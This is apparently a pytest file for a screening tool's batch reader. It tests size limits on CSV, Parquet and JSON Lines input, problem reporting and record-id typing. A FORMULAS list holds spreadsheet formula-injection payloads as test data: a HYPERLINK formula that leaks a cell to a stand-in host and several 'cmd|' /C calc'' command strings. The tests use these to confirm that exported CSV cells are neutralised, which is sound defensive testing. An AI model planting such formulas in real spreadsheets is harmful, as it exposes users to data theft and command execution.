"""Answer tables are bounded before they are read, their problems listed first-N with a count,
their CSV outputs inert in a spreadsheet, and their record ids typed (issue 20, items 3 and 6)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pyarrow as pa
import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner, Result

from screening import PackError, load_pack
from screening.batch.run import results_table, run_batch, table_bytes
from screening.batch.table import (
    BAD_RECORD_ID,
    BAD_VALUE,
    LONG_NUMBER,
    TOO_MANY_KEYS,
    TableBounds,
    problems_csv,
    read_table_bytes,
)
from screening.cli import cli
from screening.errors import AnswersError
from screening.limits import MAX_CELL_CHARS, MAX_ECHO, MAX_TABLE_COLUMNS
from screening.models import RulePack
from screening.text import FORMULA_STARTS, printable
from tests.conftest import HEADER, MINI_PACK, ROWS, csv_text, write_pack


def run(*args: str | Path) -> Result:
    return CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)


def parquet(columns: dict[str, pa.Array], **options: object) -> bytes:
    out = io.BytesIO()
    pq.write_table(pa.table(columns), out, **options)
    return out.getvalue()


def refusal(data: bytes, name: str, pack: RulePack, bounds: TableBounds | None = None) -> str:
    with pytest.raises(AnswersError) as refused:
        read_table_bytes(data, name, pack, bounds or TableBounds())
    return str(refused.value)


class TestBoundedBeforeRead:
    """Rows, columns, cells and unpacked bytes are checked before a table is read or unpacked."""

    def test_a_csv_with_too_many_columns_is_refused_by_its_header(
        self, mini_pack: RulePack
    ) -> None:
        header = ",".join(f"c{n}" for n in range(MAX_TABLE_COLUMNS + 1))
        assert refusal(f"{header}\n".encode(), "a.csv", mini_pack) == (
            f"a.csv: {MAX_TABLE_COLUMNS + 1:,} columns; at most {MAX_TABLE_COLUMNS:,} are read"
        )

    def test_a_parquet_file_with_too_many_columns_is_refused_by_its_metadata(
        self, mini_pack: RulePack
    ) -> None:
        data = parquet({f"c{n}": pa.array([None], pa.string()) for n in range(1_001)})
        assert refusal(data, "a.parquet", mini_pack).endswith("columns; at most 1,000 are read")

    @pytest.mark.parametrize("name", ["a.csv", "a.parquet", "a.jsonl"])
    def test_more_cells_than_the_bound_are_refused_whole(
        self, mini_pack: RulePack, name: str
    ) -> None:
        from tests.conftest import table_bytes as made  # noqa: PLC0415

        message = refusal(made(name, ROWS), name, mini_pack, TableBounds(cells=10))
        assert "cells are read at once: split it" in message

    def test_a_parquet_file_that_unpacks_past_the_memory_bound_is_refused_unread(
        self, mini_pack: RulePack
    ) -> None:
        data = parquet(
            {"history": pa.array(["yes" * 1_000] * 1_000)},
            compression="zstd",
            use_dictionary=False,
        )
        assert len(data) < 20_000
        message = refusal(data, "a.parquet", mini_pack, TableBounds(memory=1_000_000))
        assert message.startswith("a.parquet: unpacks to ")
        assert message.endswith("bytes; at most 1,000,000 are read at once: split it")

    def test_the_app_upload_has_tighter_bounds_than_the_command_line(self) -> None:
        from screening.batch.table import UPLOAD_BOUNDS  # noqa: PLC0415

        default = TableBounds()
        assert UPLOAD_BOUNDS.memory < default.memory and UPLOAD_BOUNDS.cells < default.cells
        assert read_table_bytes.__defaults__ == (UPLOAD_BOUNDS,)

    def test_a_repeated_long_text_in_parquet_is_read_once_not_unpacked_per_row(
        self, mini_pack: RulePack
    ) -> None:
        data = parquet({"extra": pa.array(["=" + "x" * 100_000] * 2_000)}, compression="zstd")
        table = read_table_bytes(data, "a.parquet", mini_pack)
        assert table.problem_count == 2_000
        assert {len(p.value) for p in table.problems} == {MAX_ECHO}


class TestJsonLines:
    """JSON Lines: bounded keys, long numbers refused on their line, read in linear time."""

    def test_a_line_with_too_many_keys_is_refused_on_its_line(self, mini_pack: RulePack) -> None:
        wide = json.dumps({f"k{n}": "yes" for n in range(MAX_TABLE_COLUMNS + 1)})
        data = f'{{"history": "yes"}}\n{wide}\n'.encode()
        table = read_table_bytes(data, "a.jsonl", mini_pack)
        assert [(p.row, p.reason) for p in table.problems] == [(2, TOO_MANY_KEYS)]
        assert table.accepted.tolist() == [0]

    def test_a_table_whose_every_line_is_refused_keeps_its_rows_each_refused(
        self, mini_pack: RulePack
    ) -> None:
        """Found by tests/test_upload_memory.py: no line left a column, and the empty table
        lost its rows ("unexpected internal error: IndexError")."""
        wide = json.dumps({f"k{n}": "yes" for n in range(MAX_TABLE_COLUMNS + 1)})
        table = read_table_bytes(f"{wide}\nnot json\n".encode(), "a.jsonl", mini_pack)
        assert [(p.row, p.reason) for p in table.problems] == [
            (1, TOO_MANY_KEYS),
            (2, "not valid JSON"),
        ]
        assert table.accepted.tolist() == []
        assert run_batch(mini_pack, table).rows == 2

    def test_more_different_keys_than_columns_are_refused_whole(self, mini_pack: RulePack) -> None:
        lines = "".join(json.dumps({f"k{n}": "yes"}) + "\n" for n in range(MAX_TABLE_COLUMNS + 1))
        assert refusal(lines.encode(), "a.jsonl", mini_pack) == (
            f"a.jsonl: line {MAX_TABLE_COLUMNS + 1}: more than 1,000 different keys; "
            "at most 1,000 columns are read"
        )

    def test_lines_each_with_other_keys_read_as_the_same_csv_does(
        self, mini_pack: RulePack
    ) -> None:
        lines = [{"history": "yes"}, {"active": "no"}, {"monitoring": "unknown"}, {}]
        data = "".join(json.dumps(line) + "\n" for line in lines).encode()
        rows = [["", "yes", "", ""], ["", "", "no", ""], ["", "", "", "unknown"], ["", "", "", ""]]
        from_jsonl = read_table_bytes(data, "a.jsonl", mini_pack)
        from_csv = read_table_bytes(csv_text(rows).encode(), "a.csv", mini_pack)
        for item in ("history", "active", "monitoring"):
            assert from_jsonl.given[item].tolist() == from_csv.given[item].tolist()
        assert from_jsonl.given["history"].tolist() != [0, 0, 0, 0]
        assert from_jsonl.refused.tolist() == from_csv.refused.tolist()

    def test_a_line_separator_inside_a_value_does_not_split_its_line(
        self, mini_pack: RulePack
    ) -> None:
        data = '{"record_id": "a\u2028b\x85c", "history": "yes"}\r\n'.encode()
        table = read_table_bytes(data, "a.jsonl", mini_pack)
        assert table.rows == 1 and table.problems == ()
        assert table.record_ids is not None
        assert table.record_ids.to_pylist() == ["a\u2028b\x85c"]

    @pytest.mark.parametrize("number", ["1" * 5_000, "1." + "0" * 5_000, "1e" + "9" * 200])
    def test_a_too_long_number_is_refused_on_its_line_and_the_others_run(
        self, mini_pack: RulePack, number: str
    ) -> None:
        data = f'{{"history": "yes"}}\n{{"history": {number}}}\n'.encode()
        table = read_table_bytes(data, "a.jsonl", mini_pack)
        ((row, column, value, reason),) = [
            (p.row, p.column, p.value, p.reason) for p in table.problems
        ]
        assert (row, column, reason) == (2, "", LONG_NUMBER)
        assert len(value) == MAX_ECHO and value.endswith("\u2026")
        assert table.accepted.tolist() == [0]


class TestProblemsListedFirstN:
    """Problems are listed first N by row with a count; a value is never echoed whole."""

    def test_past_the_bound_problems_are_counted_and_their_rows_refused(
        self, mini_pack: RulePack, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr("screening.batch.table.MAX_TABLE_PROBLEMS", 5)
        rows = [["p", "maybe", "", ""]] * 30 + [["ok", "yes", "", ""]]
        table = read_table_bytes(csv_text(rows).encode(), "a.csv", mini_pack)
        assert [p.row for p in table.problems] == [1, 2, 3, 4, 5]
        assert table.problem_count == 30
        assert table.accepted.tolist() == [30]
        text = problems_csv(table.problems, table.problem_count)
        assert text.splitlines()[-1] == ',,,"... and 25 more problem(s), not listed"'

    def test_the_first_problems_by_row_are_listed_across_columns(
        self, mini_pack: RulePack, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr("screening.batch.table.MAX_TABLE_PROBLEMS", 2)
        rows = [["p", "", "", "bad"]] * 3 + [["p", "bad", "", ""]]
        table = read_table_bytes(csv_text(rows).encode(), "a.csv", mini_pack)
        assert [(p.row, p.column) for p in table.problems] == [(1, "monitoring"), (2, "monitoring")]
        assert table.problem_count == 4

    def test_a_long_bad_cell_is_echoed_shortened(self, mini_pack: RulePack) -> None:
        rows = [["p", "y" * 100_000, "", ""]]
        (problem,) = read_table_bytes(csv_text(rows).encode(), "a.csv", mini_pack).problems
        assert problem.value == "y" * (MAX_ECHO - 1) + "\u2026"
        assert problem.reason == BAD_VALUE

    def test_batch_says_how_many_problems_and_how_many_are_listed(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr("screening.batch.table.MAX_TABLE_PROBLEMS", 3)
        write_pack(tmp_path / "pack")
        (tmp_path / "a.csv").write_text(csv_text([["p", "maybe", "", ""]] * 10), "utf-8")
        result = run(
            "batch", tmp_path / "a.csv", "--rules", tmp_path / "pack", "--out", tmp_path / "r.csv"
        )
        assert result.exit_code == 1
        assert "10 refused: 10 problem(s), the first 3 listed, in" in result.stderr
        lines = (tmp_path / "r.problems.csv").read_text("utf-8").splitlines()
        assert len(lines) == 1 + 3 + 1


FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "=1+1",
]


class TestSpreadsheetInert:
    """A cell a spreadsheet would run as a formula is written with a quote before it (OWASP)."""

    @pytest.mark.parametrize("payload", FORMULAS)
    def test_a_formula_record_id_is_inert_in_the_results_csv(
        self, mini_pack: RulePack, payload: str
    ) -> None:
        line = json.dumps({"record_id": payload, "history": "yes"}).encode()
        table = read_table_bytes(line, "a.jsonl", mini_pack)
        data = table_bytes(results_table(run_batch(mini_pack, table)), "csv")
        parse = pacsv.ParseOptions(newlines_in_values=True)
        read = pacsv.read_csv(pa.BufferReader(data), parse_options=parse)
        assert read.column("record_id").to_pylist() == ["'" + payload]

    @pytest.mark.parametrize("payload", FORMULAS)
    def test_a_formula_cell_is_inert_in_the_problems_csv(
        self, mini_pack: RulePack, payload: str
    ) -> None:
        line = json.dumps({"extra": payload}).encode()
        table = read_table_bytes(line, "a.jsonl", mini_pack)
        (row,) = list(csv.DictReader(io.StringIO(problems_csv(table.problems), newline="")))
        assert not row["value"].startswith(FORMULA_STARTS)
        assert row["value"] in ("'" + table.problems[0].value, printable(table.problems[0].value))

    def test_a_formula_column_name_is_inert_in_the_problems_csv(self, mini_pack: RulePack) -> None:
        data = csv_text([["p", "", "", "", "x"]], [*HEADER, "=cmd()"]).encode()
        table = read_table_bytes(data, "a.csv", mini_pack)
        (row,) = list(csv.DictReader(io.StringIO(problems_csv(table.problems))))
        assert row["column"] == "'=cmd()"

    def test_plain_cells_are_left_as_they_are(self, mini_pack: RulePack) -> None:
        data = table_bytes(
            results_table(
                run_batch(
                    mini_pack,
                    read_table_bytes(csv_text(ROWS).encode(), "a.csv", mini_pack),
                )
            ),
            "csv",
        )
        assert [r["record_id"] for r in csv.DictReader(io.StringIO(data.decode()))] == [
            "p1",
            "p2",
            "p3",
            "p4",
        ]


class TestRecordIdTyped:
    """A record id is text or a whole number; anything else refuses its row, never guessed."""

    def test_a_whole_number_record_id_is_read_as_its_digits(self, mini_pack: RulePack) -> None:
        data = parquet({"record_id": pa.array([7, None]), "history": pa.array(["yes", "no"])})
        table = read_table_bytes(data, "a.parquet", mini_pack)
        assert table.record_ids is not None and table.record_ids.to_pylist() == ["7", None]
        assert table.problems == ()

    @pytest.mark.parametrize(
        "ids",
        [
            pa.array([float("nan"), 1.5]),
            pa.array([b"=1+1", b"x"]),
            pa.array([True, False]),
        ],
        ids=["decimal", "bytes", "boolean"],
    )
    def test_another_type_of_record_id_refuses_its_rows(
        self, mini_pack: RulePack, ids: pa.Array
    ) -> None:
        data = parquet({"record_id": ids, "history": pa.array(["yes", "no"])})
        table = read_table_bytes(data, "a.parquet", mini_pack)
        assert [(p.row, p.column, p.reason) for p in table.problems] == [
            (1, "record_id", BAD_RECORD_ID),
            (2, "record_id", BAD_RECORD_ID),
        ]
        assert table.accepted.tolist() == []

    def test_a_json_lines_record_id_may_be_a_whole_number_not_a_decimal(
        self, mini_pack: RulePack
    ) -> None:
        data = b'{"record_id": 12, "history": "yes"}\n{"record_id": 1.5}\n{"record_id": true}\n'
        table = read_table_bytes(data, "a.jsonl", mini_pack)
        assert table.record_ids is not None and table.record_ids.to_pylist()[0] == "12"
        assert [(p.row, p.reason) for p in table.problems] == [
            (2, BAD_RECORD_ID),
            (3, BAD_RECORD_ID),
        ]

    def test_a_record_id_longer_than_the_bound_refuses_its_row(self, mini_pack: RulePack) -> None:
        rows = [["p" * (MAX_CELL_CHARS + 1), "yes", "", ""], ["ok", "yes", "", ""]]
        table = read_table_bytes(csv_text(rows).encode(), "a.csv", mini_pack)
        assert [(p.row, p.reason) for p in table.problems] == [(1, BAD_RECORD_ID)]


class TestReservedIds:
    """`check` refuses an item or rule id that is also a column of the batch results table."""

    @pytest.mark.parametrize("reserved", ["record_id", "row"])
    def test_an_item_named_as_a_results_column_is_refused(
        self, tmp_path: Path, reserved: str
    ) -> None:
        items = MINI_PACK["items.yaml"].replace("id: monitoring", f"id: {reserved}")
        rules = MINI_PACK["rules-main.yaml"].replace("item: monitoring", f"item: {reserved}")
        folder = write_pack(tmp_path / "p", {"items.yaml": items, "rules-main.yaml": rules})
        with pytest.raises(PackError) as refused:
            load_pack(folder)
        assert [(p.ref, p.message.split(" (")[0]) for p in refused.value.problems] == [
            (reserved, f"'{reserved}' is a column of the batch results table")
        ]

    def test_a_rule_named_as_a_results_column_is_refused(self, tmp_path: Path) -> None:
        rules = MINI_PACK["rules-main.yaml"].replace("id: setting-monitoring", "id: pack_name")
        folder = write_pack(tmp_path / "p", {"rules-main.yaml": rules})
        with pytest.raises(PackError) as refused:
            load_pack(folder)
        assert refused.value.problems[0].ref == "pack_name"


class TestNothingWrittenOnFailure:
    """A batch run that is refused, or cannot write both files, writes neither."""

    def test_a_refused_table_writes_nothing(self, tmp_path: Path) -> None:
        write_pack(tmp_path / "pack")
        (tmp_path / "a.csv").write_text("history,history\nyes,no\n", "utf-8")
        run("batch", tmp_path / "a.csv", "--rules", tmp_path / "pack", "--out", tmp_path / "r.csv")
        assert sorted(p.name for p in tmp_path.iterdir()) == ["a.csv", "pack"]

    def test_a_problems_file_in_a_missing_folder_is_refused_before_any_write(
        self, tmp_path: Path
    ) -> None:
        write_pack(tmp_path / "pack")
        (tmp_path / "a.csv").write_text(csv_text(ROWS), "utf-8")
        result = run(
            "batch",
            tmp_path / "a.csv",
            "--rules",
            tmp_path / "pack",
            "--out",
            tmp_path / "r.csv",
            "--problems",
            tmp_path / "nowhere" / "p.csv",
        )
        assert result.exit_code == 1
        assert "p.csv: cannot write: No such file or directory" in result.stderr
        assert sorted(p.name for p in tmp_path.iterdir()) == ["a.csv", "pack"]
